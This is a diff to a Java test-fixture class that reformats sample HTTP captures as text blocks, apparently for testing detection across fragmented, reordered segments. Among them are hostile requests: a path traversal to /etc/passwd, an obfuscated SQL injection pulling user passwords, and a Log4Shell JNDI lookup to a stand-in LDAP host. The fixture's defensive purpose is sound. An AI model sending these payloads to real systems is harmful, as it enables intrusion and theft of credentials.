@@ -25,28 +25,53 @@ final class SampleCaptures {
     private static final long THINKING_NS = 40_000_000L;
 
     private static final String PAGE =
-            "HTTP/1.1 200 OK\r\nServer: shop\r\nContent-Type: text/html\r\nContent-Length: 66\r\n\r\n"
-                    + "<html><body><h1>Lamps and chairs</h1><p>Welcome!</p></body></html>";
+            """
+            HTTP/1.1 200 OK\r
+            Server: shop\r
+            Content-Type: text/html\r
+            Content-Length: 66\r
+            \r
+            <html><body><h1>Lamps and chairs</h1><p>Welcome!</p></body></html>\
+            """;
     private static final String NOT_FOUND =
-            "HTTP/1.1 404 Not Found\r\nServer: shop\r\nContent-Length: 0\r\n\r\n";
+            """
+            HTTP/1.1 404 Not Found\r
+            Server: shop\r
+            Content-Length: 0\r
+            \r
+            """;
 
     /// `/../../../../etc/passwd` begins in the second segment and ends in the sixth.
     private static final String TRAVERSAL =
-            "GET /cgi-bin/view.cgi?page=/../../../../etc/passwd HTTP/1.1\r\n"
-                    + "Host: shop.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n";
+            """
+            GET /cgi-bin/view.cgi?page=/../../../../etc/passwd HTTP/1.1\r
+            Host: shop.example\r
+            User-Agent: curl/8.5.0\r
+            Accept: */*\r
+            \r
+            """;
 
     private static final int[] TRAVERSAL_CUTS = {20, 29, 34, 40, 46, 60};
     private static final int[] TRAVERSAL_ORDER = {0, 3, 1, 5, 2, 6, 4};
 
     private static final String INJECTION =
-            "GET /item?id=1%27%20uNiOn%20sElEcT%20name,password%20FROM%20users-- HTTP/1.1\r\n"
-                    + "Host: shop.example\r\nUser-Agent: sqlmap/1.8\r\n\r\n";
+            """
+            GET /item?id=1%27%20uNiOn%20sElEcT%20name,password%20FROM%20users-- HTTP/1.1\r
+            Host: shop.example\r
+            User-Agent: sqlmap/1.8\r
+            \r
+            """;
     private static final int[] INJECTION_CUTS = {18, 27};
     private static final int[] INJECTION_ORDER = {0, 2, 1};
 
     private static final String JNDI =
-            "GET / HTTP/1.1\r\nHost: shop.example\r\n"
-                    + "User-Agent: ${jndi:ldap://198.51.100.66:1389/a}\r\nAccept: */*\r\n\r\n";
+            """
+            GET / HTTP/1.1\r
+            Host: shop.example\r
+            User-Agent: ${jndi:ldap://198.51.100.66:1389/a}\r
+            Accept: */*\r
+            \r
+            """;
     private static final int[] JNDI_CUTS = {49, 54};
     private static final int[] JNDI_ORDER = {2, 1, 0};
 
